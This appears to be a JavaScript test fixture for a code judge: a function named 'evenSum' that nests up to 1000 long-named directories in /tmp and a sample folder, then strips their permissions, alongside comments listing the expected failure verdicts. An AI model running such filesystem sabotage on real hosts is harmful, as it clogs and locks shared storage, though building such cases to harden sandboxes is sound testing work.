// tries: folders in folders, deeper than any path is long
// verdict: wrong_answer, runtime_error, time_limit_exceeded
const fs = require('fs')

const evenSum = () => {
  for (const place of ['/tmp', '/w/sample']) {
    process.chdir(place)
    try {
      for (let depth = 0; depth < 1000; depth++) {
        fs.mkdirSync('d'.repeat(200))
        process.chdir('d'.repeat(200))
      }
    } catch {}
    fs.chmodSync('.', 0)
  }
}
